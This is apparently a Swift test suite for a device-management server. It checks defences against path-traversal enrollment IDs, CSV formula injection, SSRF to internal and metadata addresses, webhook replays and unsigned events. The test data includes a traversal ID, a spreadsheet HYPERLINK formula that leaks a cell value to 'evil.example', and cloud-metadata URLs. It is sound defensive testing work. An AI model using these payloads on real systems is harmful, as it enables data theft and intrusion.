import Foundation
import Testing
import VPPAppleSimulator
import VPPComposition
import VPPDomain
import VPPTestSupport
import VPPUseCases

/// Issue 24 through the app vppd serves (`VPPServer.application`) on a real port: enrollment ids shaped like
/// paths, formulas in CSV reports.
@Suite("Hardening, second round: the MDM webhook and the reports")
struct SecondHardeningTests {
    static let hmacKey = "second-round-hmac-key"

    static func event(_ topic: String, udid: String, payload: [String: Any]? = nil, tally: Int? = nil) throws -> Data {
        let raw = try payload.map {
            try PropertyListSerialization.data(fromPropertyList: $0, format: .xml, options: 0).base64EncodedString()
        }
        var checkIn: [String: Any] = ["udid": udid, "raw_payload": raw ?? ""]
        if let tally { checkIn["token_update_tally"] = tally }
        let body: [String: Any] = [
            "topic": topic, "event_id": UUID().uuidString, "created_at": "2026-12-06T00:00:00Z",
            "checkin_event": checkIn,
        ]
        return try JSONSerialization.data(withJSONObject: body)
    }

    static func signature(_ body: Data) -> String {
        Data(HMACSHA256.mac(key: Array(hmacKey.utf8), message: Array(body))).base64EncodedString()
    }

    /// Authenticate then TokenUpdate for `udid`, signed, through the webhook route.
    static func enroll(_ api: APIBench, serial: String, udid: String) async throws {
        for body in [
            try event(
                "mdm.Authenticate",
                udid: udid,
                payload: ["SerialNumber": serial, "UDID": udid, "ProductName": "iPad13,4", "OSVersion": "18.1"]
            ),
            try event("mdm.TokenUpdate", udid: udid, payload: ["Topic": "t"], tally: 1),
        ] {
            let answer = try await api.call(
                "POST",
                "/mdm/webhook/\(api.world.tenant.id)",
                raw: body,
                headers: ["X-Hmac-Signature": signature(body)]
            )
            #expect(answer.status == 200, "\(answer.text)")
        }
        try await api.world.useCases.processMDMEvents(api.world.tenant.id)
    }

    @Test(
        """
        an enrollment id shaped like a path is refused at the webhook (400, nothing recorded, no device) and never \
        reaches the MDM server's URL
        """,
        arguments: [StoreKind.sqlite, .postgres]
    )
    func enrollmentIDTraversal(kind: StoreKind) async throws {
        let mdm = try await RecordingListener.start()
        defer { mdm.stop() }
        try await withAPI(kind) { api in
            let tenant = api.world.tenant.id
            let connect = try await api.call(
                "PUT",
                "/v1/mdm",
                key: api.ownerKey,
                json: ["kind": "nanomdm", "url": mdm.url, "apiKey": "k", "webhookHmacKey": Self.hmacKey]
            )
            #expect(connect.status == 200, "\(connect.text)")

            let evil = "00008030-53535246/../../../../admin/reset"
            // Refused at the edge (400 naming the id), nothing recorded: the id never reaches the inventory.
            for body in [
                try Self.event(
                    "mdm.Authenticate",
                    udid: evil,
                    payload: ["SerialNumber": "C02EVIL00001", "UDID": evil, "ProductName": "iPad13,4"]
                ),
                try Self.event("mdm.TokenUpdate", udid: evil, payload: ["Topic": "t"], tally: 1),
            ] {
                let answer = try await api.call(
                    "POST",
                    "/mdm/webhook/\(tenant)",
                    raw: body,
                    headers: ["X-Hmac-Signature": Self.signature(body)]
                )
                #expect(answer.status == 400 && answer.errorCode == "bad_mdm_event", "\(answer.text)")
                #expect(answer.errorMessage.contains("not an enrollment id"), "\(answer.text)")
            }
            try await api.world.useCases.processMDMEvents(tenant)
            var devices = try await api.call("GET", "/v1/devices", key: api.readerKey)
            #expect(devices.array.isEmpty, "refused, not stored as a device: \(devices.text)")
            let events = try await api.world.store.inTenant(tenant) { tx in try await tx.mdmEvents(limit: 10) }
            #expect(events.isEmpty, "\(events.map { "\($0.topic) \($0.state) \($0.detail)" })")

            // An id stored before ids were checked is never sent; a good one is one encoded segment.
            let now = api.world.clock.now()
            let legacy = try SerialNumber("C02LEGACY001")
            let good = try SerialNumber("C02GOOD00001")
            let goodID = "00008030-001A35E11A53802E"
            try await api.world.store.inTenant(tenant) { tx in
                try await tx.saveEnrollment(
                    legacy,
                    MDMEnrollment(state: .enrolled, enrollmentID: evil, lastSeenAt: now)
                )
                try await tx.saveEnrollment(
                    good,
                    MDMEnrollment(state: .enrolled, enrollmentID: goodID, lastSeenAt: now)
                )
                try await tx.enqueueDeviceCommands(
                    [legacy, good].map {
                        DeviceCommand(
                            serialNumber: $0.value,
                            kind: .installedApplicationList,
                            adamID: "",
                            createdAt: now
                        )
                    }
                )
            }
            let outcome = try await api.world.useCases.deliverDeviceCommands(
                tenant,
                owner: "test"
            )
            #expect(outcome.delivered == 1 && outcome.failed == 1, "\(outcome)")
            #expect(mdm.seen == ["PUT /v1/enqueue/\(goodID)"], "\(mdm.seen)")
            devices = try await api.call("GET", "/v1/devices", key: api.readerKey)
            #expect(devices.array.count == 2)
        }
    }

    @Test("the encoding of a path segment: '/', '%', '?', '#' and dot segments cannot leave it")
    func pathSegment() throws {
        #expect(EnrollmentID.pathSegment("a/../b") == "a%2F..%2Fb")
        #expect(EnrollmentID.pathSegment("..") == "%2E%2E" && EnrollmentID.pathSegment(".") == "%2E")
        #expect(EnrollmentID.pathSegment("x?y#z%") == "x%3Fy%23z%25")
        #expect(EnrollmentID.pathSegment("UDID:user 1") == "UDID%3Auser%201")
        for good in ["00008030-001A35E11A53802E", String(repeating: "a", count: 40), UUID().uuidString, "ABC:DEF_1"] {
            #expect((try? EnrollmentID(good)) != nil, "\(good)")
        }
        for bad in ["", "..", "a/b", "a b", "a%2Fb", "é", String(repeating: "a", count: 129), "a\u{0}b", "a.b"] {
            #expect((try? EnrollmentID(bad)) == nil, "\(bad)")
        }
    }

    @Test(
        """
        every CSV vpp writes makes formula-like cells text (the API's report; the console's and vppctl's use the \
        same rule)
        """,
        arguments: [StoreKind.sqlite]
    )
    func csvFormulas(kind: StoreKind) async throws {
        try await withAPI(kind) { api in
            let formula = #"=HYPERLINK("http://evil.example/?leak="&A1,"open")"#
            let (file, _) = try await api.world.location(
                "@Campus",
                assets: [SimAsset(adamId: "408709785", totalCount: 5, name: formula)]
            )
            let upload = try await api.call(
                "POST",
                "/v1/tokens",
                key: api.adminKey,
                json: ["token": String(decoding: file, as: UTF8.self)]
            )
            #expect(upload.status == 201, "\(upload.text)")
            let id = try #require((upload.object["token"] as? [String: Any])?["id"] as? String)
            #expect(try await api.call("POST", "/v1/tokens/\(id)/sync", key: api.adminKey).status == 200)
            let csv = try await api.call("GET", "/v1/reports/licenses?format=csv", key: api.readerKey).text
            #expect(csv.contains(#""'=HYPERLINK(""http://evil.example/?leak=""&A1,""open"")""#), "\(csv)")
            #expect(csv.contains(",'@Campus,"), "\(csv)")
            #expect(!csv.contains(",=") && !csv.contains(",\"="), "\(csv)")
        }
        for (cell, written) in [
            ("=1+2", "'=1+2"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"),
            ("\rx", "\"'\rx\""), ("a=b", "a=b"), ("Pages", "Pages"), ("a,b", "\"a,b\""),
        ] {
            #expect(CSVCell.field(cell) == written, "\(cell.debugDescription)")
        }
        #expect(CSVCell.line(["orphaned", "-cmd", "+x", "=y"]) == "orphaned,'-cmd,'+x,'=y")
        #expect(Reports.driftCSV([]) == "kind,adamId,assignee,location,fix\n")
    }

    @Test(
        """
        outbound URLs: internal, metadata and plain-http URLs refused with 422 naming the problem; a name \
        resolving inside refused at connect time; a loopback listener receives nothing
        """,
        arguments: [StoreKind.sqlite]
    )
    func outboundPolicy(kind: StoreKind) async throws {
        let listener = try CountingListener()
        defer { listener.stop() }
        let port = listener.port
        try await withAPI(kind, outbound: .strict) { api in
            for (body, needle) in [
                (["kind": "nanomdm", "url": "http://127.0.0.1:\(port)", "apiKey": "k"], "plain http"),
                (["kind": "nanomdm", "url": "https://127.0.0.1:\(port)", "apiKey": "k"], "loopback"),
                (["kind": "webhook", "url": "https://169.254.169.254/latest/meta-data"], "link-local"),
                (["kind": "micromdm", "url": "https://[::1]:\(port)", "apiKey": "k"], "loopback"),
                (["kind": "micromdm", "url": "https://[::ffff:10.0.0.1]/", "apiKey": "k"], "private"),
                (["kind": "nanomdm", "url": "https://192.168.1.20/", "apiKey": "k"], "private"),
                (["kind": "webhook", "url": "https://localhost:\(port)/hook"], "this machine"),
            ] {
                let answer = try await api.call("PUT", "/v1/mdm", key: api.ownerKey, json: body)
                #expect(
                    answer.status == 422 && answer.errorCode == "invalid_mdm_connection"
                        && answer.errorMessage.contains(needle) && answer.errorMessage.contains("VPP_OUTBOUND_ALLOW"),
                    "\(body): \(answer.text)"
                )
            }
            let public_ = try await api.call(
                "PUT",
                "/v1/mdm",
                key: api.ownerKey,
                json: ["kind": "nanomdm", "url": "https://mdm.example.com", "apiKey": "k"]
            )
            #expect(public_.status == 200, "a public https URL is accepted: \(public_.text)")

            // A name that resolves inside passes the configuration check (no DNS then) but not the connection: saved
            // while the operator allowed it, then delivered under the strict policy.
            let tenant = api.world.tenant.id
            let host = ProcessInfo.processInfo.hostName
            let inside = "https://\(host):\(port)"
            var permissive = api.world.settings
            permissive.outboundPolicy = OutboundPolicy(allowList: host)
            _ = try await api.world.useCases(settings: permissive).configureMDM.connect(
                .system(tenant),
                MDMConnectionRequest(kind: .nanomdm, url: inside, apiKey: "k")
            )
            let serial = try SerialNumber("C02SSRF00001")
            let now = api.world.clock.now()
            try await api.world.store.inTenant(tenant) { tx in
                try await tx.saveEnrollment(
                    serial,
                    MDMEnrollment(state: .enrolled, enrollmentID: "00008030-001A35E11A53802E", lastSeenAt: now)
                )
                try await tx.enqueueDeviceCommands([
                    DeviceCommand(
                        serialNumber: serial.value,
                        kind: .installedApplicationList,
                        adamID: "",
                        createdAt: now
                    )
                ])
            }
            var strict = api.world.settings
            strict.outboundPolicy = .strict
            let outcome = try await api.world.useCases(settings: strict).deliverDeviceCommands(
                tenant,
                owner: "test"
            )
            #expect(outcome.delivered == 0 && outcome.retried == 1, "\(outcome)")
            let record = try #require(
                try await api.world.store.inTenant(tenant) { tx in
                    try await tx.deviceCommandRecords(DeviceCommandQuery(serialNumber: serial.value, states: nil))
                }.first
            )
            #expect(record.lastError?.contains("resolves to") == true, "\(record.lastError ?? "")")

            // The same URL saved as a literal loopback address (before this check existed) is refused too.
            permissive.outboundPolicy = OutboundPolicy(allowList: "127.0.0.1")
            _ = try await api.world.useCases(settings: permissive).configureMDM.connect(
                .system(tenant),
                MDMConnectionRequest(kind: .micromdm, url: "http://127.0.0.1:\(port)", apiKey: "k")
            )
            api.world.clock.advance(days: 1)
            let again = try await api.world.useCases(settings: strict).deliverDeviceCommands(
                tenant,
                owner: "test"
            )
            #expect(again.delivered == 0 && again.retried == 1, "\(again)")
            try await Task.sleep(for: .milliseconds(300))
            #expect(listener.connections == 0, "the loopback listener was reached")

            // Control: allowed by the operator, the same delivery does reach the listener.
            api.world.clock.advance(days: 1)
            _ = try await api.world.useCases(settings: permissive).deliverDeviceCommands(
                tenant,
                owner: "test"
            )
            try await Task.sleep(for: .milliseconds(300))
            #expect(listener.connections >= 1, "the listener works")
        }
    }

    @Test(
        """
        webhook replays: a signed 512 KiB event sent 8 times is stored once; same id with other content is a new \
        event; over 1 MiB is 413; processed events are pruned after the retention period
        """,
        arguments: [StoreKind.sqlite, .postgres]
    )
    func webhookReplays(kind: StoreKind) async throws {
        try await withAPI(kind) { api in
            let tenant = api.world.tenant.id
            let connect = try await api.call(
                "PUT",
                "/v1/mdm",
                key: api.ownerKey,
                json: ["kind": "pull", "webhookHmacKey": Self.hmacKey]
            )
            #expect(connect.status == 200, "\(connect.text)")
            func post(_ body: Data) async throws -> APIBench.Answer {
                try await api.call(
                    "POST",
                    "/mdm/webhook/\(tenant)",
                    raw: body,
                    headers: ["X-Hmac-Signature": Self.signature(body)]
                )
            }
            func event(id: String, padding: Int) throws -> Data {
                try JSONSerialization.data(withJSONObject: [
                    "topic": "mdm.UserAuthenticate", "event_id": id, "created_at": "2026-12-06T00:00:00Z",
                    "padding": String(repeating: "A", count: padding),
                ])
            }
            func stored() async throws -> [MDMEventRecord] {
                try await api.world.store.inTenant(tenant) { tx in try await tx.mdmEvents(limit: 100) }
            }
            let big = try event(id: "replayed", padding: 512 * 1024)
            var states: [String] = []
            for _ in 0..<8 { states.append(try await post(big).object["recorded"] as? String ?? "?") }
            #expect(states == ["pending"] + Array(repeating: "duplicate", count: 7), "\(states)")
            #expect(try await stored().count == 1, "stored once")
            let sameID = try event(id: "replayed", padding: 10)
            #expect(try await post(sameID).object["recorded"] as? String == "pending", "same id, other content")
            let tooBig = try event(id: "huge", padding: (1 << 20) + 1)
            // 413 and the connection closed (the rest of the body is never read): the client may see either.
            let tooBigStatus = try? await post(tooBig).status
            #expect(tooBigStatus == 413 || tooBigStatus == nil, "\(String(describing: tooBigStatus))")
            #expect(try await stored().count == 2)

            try await api.world.useCases.processMDMEvents(tenant)
            api.world.clock.advance(days: 8)
            let fresh = try event(id: "fresh", padding: 10)
            #expect(try await post(fresh).object["recorded"] as? String == "pending")
            // Processing prunes what is past the retention period; the fresh event (processed now) stays.
            try await api.world.useCases.processMDMEvents(tenant)
            let left = try await stored()
            #expect(left.count == 1 && left.first?.body.contains("fresh") == true, "\(left.map(\.topic))")
            // Past the retention period, the old event is no longer remembered: a replay of it is recorded again.
            #expect(try await post(big).object["recorded"] as? String == "pending")

            // A tenant whose MDM server falls silent is pruned too: the 10-minute sweep runs event processing.
            try await api.world.useCases.processMDMEvents(tenant)
            api.world.clock.advance(days: 8)
            try await api.world.useCases.scheduleMDMWork(now: api.world.clock.now(), sweep: true)
            let jobs = api.world.useCases.runDueJobs
            for _ in 0..<5 where !(await jobs(owner: "test", stopping: { false })).isEmpty {}
            let afterSweep = try await stored()
            #expect(afterSweep.isEmpty, "\(afterSweep.map(\.topic))")
        }
    }

    @Test(
        """
        device events need the webhook key: a connection saved without one (before issue 24) refuses them (401, \
        nothing recorded) and says so; connecting without a key makes one, shown once, usable as the HMAC key or \
        in the path
        """,
        arguments: [StoreKind.sqlite]
    )
    func unsignedEvents(kind: StoreKind) async throws {
        try await withAPI(kind) { api in
            let tenant = api.world.tenant.id
            let connect = try await api.call(
                "PUT",
                "/v1/mdm",
                key: api.ownerKey,
                json: ["kind": "nanomdm", "url": "https://mdm.example.com", "apiKey": "k"]
            )
            let key = try #require(connect.object["webhookKey"] as? String, "\(connect.text)")
            #expect(key.count == 64 && key.allSatisfy(\.isHexDigit) && connect.object["webhookWarning"] == nil)
            let shown = try await api.call("GET", "/v1/mdm", key: api.readerKey)
            #expect(shown.object["webhookKey"] == nil && !shown.text.contains(key), "shown once")

            // A connection saved before keys were required: no key, so every device event is refused.
            try await api.world.store.inTenant(tenant) { tx in
                let stored = try #require(try await tx.mdmConnection())
                try await tx.saveMDMConnection(
                    StoredMDMConnection(
                        connection: stored.connection,
                        secrets: MDMSealedSecrets(
                            apiKey: stored.secrets.apiKey,
                            webhookHMACKey: nil,
                            signingSecret: nil
                        )
                    )
                )
            }
            let legacy = try await api.call("GET", "/v1/mdm", key: api.readerKey)
            #expect((legacy.object["webhookWarning"] as? String)?.contains("HMAC") == true, "\(legacy.text)")
            let forged = try Self.event(
                "mdm.Authenticate",
                udid: "00008030-001A35E11A53802E",
                payload: ["SerialNumber": "C02FORGED001", "UDID": "00008030-001A35E11A53802E"]
            )
            let refused = try await api.call("POST", "/mdm/webhook/\(tenant)", raw: forged)
            #expect(refused.status == 401 && refused.errorMessage.contains("HMAC"), "\(refused.text)")
            let guessed = try await api.call("POST", "/mdm/webhook/\(tenant)/\(key)", raw: forged)
            #expect(guessed.status == 401, "the old key no longer opens anything: \(guessed.text)")
            #expect(try await api.world.store.inTenant(tenant) { tx in try await tx.mdmEvents(limit: 10) }.isEmpty)

            // Reconnecting without a key makes a new one: events in its path, or signed with it, are accepted.
            let again = try await api.call(
                "PUT",
                "/v1/mdm",
                key: api.ownerKey,
                json: ["kind": "micromdm", "url": "https://mdm.example.com", "apiKey": "k"]
            )
            let newKey = try #require(again.object["webhookKey"] as? String, "\(again.text)")
            #expect(newKey != key)
            let wrong = try await api.call(
                "POST",
                "/mdm/webhook/\(tenant)/\(String(repeating: "0", count: 64))",
                raw: forged
            )
            #expect(wrong.status == 401)
            let viaPath = try await api.call("POST", "/mdm/webhook/\(tenant)/\(newKey)", raw: forged)
            #expect(viaPath.status == 200 && viaPath.object["recorded"] as? String == "pending", "\(viaPath.text)")
            let update = try Self.event("mdm.TokenUpdate", udid: "00008030-001A35E11A53802E", tally: 1)
            let signed = try await api.call(
                "POST",
                "/mdm/webhook/\(tenant)",
                raw: update,
                headers: [
                    "X-Hmac-Signature": Data(HMACSHA256.mac(key: Array(newKey.utf8), message: Array(update)))
                        .base64EncodedString()
                ]
            )
            #expect(signed.status == 200, "\(signed.text)")
            try await api.world.useCases.processMDMEvents(tenant)
            let devices = try await api.call("GET", "/v1/devices", key: api.readerKey)
            #expect(
                devices.array.first?["udid"] as? String == "00008030-001A35E11A53802E"
                    && devices.array.first?["enrollment"] as? String == "enrolled",
                "\(devices.text)"
            )
        }
    }

    @Test("a redirect from an allowed MDM server to a refused address is not followed", arguments: [StoreKind.sqlite])
    func redirectsNotFollowed(kind: StoreKind) async throws {
        let target = try CountingListener()
        defer { target.stop() }
        let redirecting = try await RecordingListener.start(
            status: .temporaryRedirect,
            location: "http://127.0.0.1:\(target.port)/v1/enqueue/x"
        )
        defer { redirecting.stop() }
        try await withAPI(kind) { api in
            let tenant = api.world.tenant.id
            // Only the redirecting server is allowed (host:port): the redirect's target is not.
            var settings = api.world.settings
            settings.outboundPolicy = OutboundPolicy(allowList: "127.0.0.1:\(redirecting.port)")
            _ = try await api.world.useCases(settings: settings).configureMDM.connect(
                .system(tenant),
                MDMConnectionRequest(kind: .nanomdm, url: redirecting.url, apiKey: "k")
            )
            let serial = try SerialNumber("C02REDIR0001")
            let now = api.world.clock.now()
            try await api.world.store.inTenant(tenant) { tx in
                try await tx.saveEnrollment(
                    serial,
                    MDMEnrollment(state: .enrolled, enrollmentID: "00008030-001A35E11A53802E", lastSeenAt: now)
                )
                try await tx.enqueueDeviceCommands([
                    DeviceCommand(
                        serialNumber: serial.value,
                        kind: .installedApplicationList,
                        adamID: "",
                        createdAt: now
                    )
                ])
            }
            let outcome = try await api.world.useCases(settings: settings).deliverDeviceCommands(tenant, owner: "test")
            #expect(outcome.delivered == 0 && outcome.retried == 1, "\(outcome)")
            try await Task.sleep(for: .milliseconds(300))
            #expect(redirecting.seen.count == 1 && target.connections == 0, "\(redirecting.seen) \(target.connections)")
        }
    }
}
